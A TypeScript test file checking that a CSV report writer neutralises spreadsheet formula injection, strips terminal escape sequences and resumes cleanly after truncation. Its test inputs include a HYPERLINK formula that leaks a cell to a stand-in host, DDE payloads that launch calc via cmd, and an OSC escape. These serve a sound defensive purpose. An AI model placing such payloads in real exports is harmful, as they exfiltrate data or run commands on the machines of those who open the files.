import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { printable } from '../table.ts';
import { type Outcome, openReportFile } from './report-file.ts';

const folder = mkdtempSync(join(tmpdir(), 'waypost-report-'));
after(() => rmSync(folder, { recursive: true }));

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom('a,b', '"', '""', ',accepted,', 'a\r\nb', 'é', '=1', 'a;=1', ';"+1', '＝1', '＋1', '－1', '＠1'),
);
const outcomes = fc.array(
  fc.record<Pick<Outcome, 'to' | 'status' | 'detail'>>({
    to: text,
    status: fc.constantFrom('accepted', 'failed', 'unknown'),
    detail: text,
  }),
  { minLength: 1, maxLength: 8 },
);

/** A cell as the report has it. */
function written(cell: string): string {
  const line = printable(cell.replace(/[\r\n]+/g, ' '));
  return /^\+?\d+$/.test(line) ? line : line.replace(/(^|;)(?=[\s"]*[=+\-@＝＋－＠])/g, "$1'");
}

describe('a report file', () => {
  it('has nothing of a stranger in it that a spreadsheet would calculate or a terminal would obey', async () => {
    const path = join(folder, 'stranger.csv');
    const report = await openReportFile(path, () => {});
    const given = [
      '=HYPERLINK("https://a.example/?"&A1,"Open")',
      '+cmd|calc!A0',
      '-1+1',
      '@SUM(1)',
      '＝1',
      '\u001b]0;a\u0007',
    ];
    report.append([...given, '+447700900123', '0770'].map((to, place) => ({ row: place + 2, to, status: 'failed' })));
    report.close();
    const cells = parse(readFileSync(path), { from: 2 }).map(([, to]: string[]) => to);
    assert.deepEqual(cells, [...given.slice(0, 5).map((to) => `'${to}`), ' ]0;a ', '+447700900123', '0770']);
    // A run that goes on reads it again.
    assert.equal((await openReportFile(path, () => {})).rows(), 8);
  });

  it('has no formula in it for a spreadsheet that parts its cells at semicolons', async () => {
    const path = join(folder, 'semicolons.csv');
    const report = await openReportFile(path, () => {});
    const given = ["0770;=cmd|'/C calc'!A0;", 'a;"=1+1;', 'a; \t@SUM(1);b', ';;-1+1', 'a;1;b;＝1'];
    report.append(given.map((to, place) => ({ row: place + 2, to, status: 'failed', detail: to })));
    report.close();
    const [, ...lines] = readFileSync(path, 'utf8').trimEnd().split('\n');
    const cells = lines.flatMap((line) => line.split(';'));
    assert.equal(cells.length, lines.length + 2 * given.join('').split(';').length - 2);
    // Where a cell begins with quotation marks, these count for nothing.
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s"]*[=+\-@＝＋－＠]/);
    assert.equal((await openReportFile(path, () => {})).rows(), given.length);
  });

  it('that is cut at any byte goes on with the first row that is not whole', async () => {
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(outcomes, fc.nat(), async (wished, place) => {
        const rows = wished.map((outcome, index) => ({ row: index + 2, ...outcome }));
        runs += 1;
        const path = join(folder, `${runs}.csv`);
        const first = await openReportFile(path, () => {});
        first.append(rows);
        first.close();
        const whole = readFileSync(path);
        writeFileSync(path, whole.subarray(0, place % (whole.length + 1)));
        const second = await openReportFile(path, () => {});
        second.append(rows.slice(second.rows()));
        second.close();
        assert.deepEqual(readFileSync(path), whole);
        assert.equal(second.rows(), rows.length);
        const read: string[][] = parse(whole, { from: 2 });
        assert.deepEqual(
          read.map((cells) => [cells[1], cells[2], cells[6]]),
          rows.map(({ to, status, detail = '' }) => [written(to), status, written(detail)]),
        );
      }),
    );
  });
});
